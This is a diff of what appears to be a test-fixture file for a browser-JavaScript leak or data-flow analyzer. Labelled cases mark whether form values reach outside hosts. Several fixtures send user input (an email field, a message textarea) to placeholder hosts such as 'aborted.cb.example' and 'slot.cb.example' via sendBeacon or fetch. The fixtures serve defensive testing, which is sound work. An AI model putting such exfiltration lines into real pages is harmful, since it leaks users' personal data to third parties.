@@ -89,14 +89,13 @@ document.querySelector('input[type=file]').onchange = function () {
 function check(cb) { cb('ok', document.querySelector('textarea[name=message]').value); }
 check(function (status) { fetch('https://slot.cb.example/c?s=' + status); });
 
-//# other-target
+//# listener-with-aborted-signal
 // no flow
-// why: the handler takes the label of the button that was pressed
-document.querySelector('#plan-a').addEventListener('click', (e) => {
-  const email = document.querySelector('input[type=email]').value;
-  document.querySelector('#mail').textContent = email;
-  navigator.sendBeacon('https://target.cb.example/b', e.currentTarget.id);
-});
+// why: a listener whose signal is aborted already is never added
+const done = AbortSignal.abort();
+document.querySelector('input[type=email]').addEventListener('change', (e) => {
+  navigator.sendBeacon('https://aborted.cb.example/b', e.target.value);
+}, { signal: done });
 
 //# event-target-subclass
 // flow: email > et.cb.example via fetch
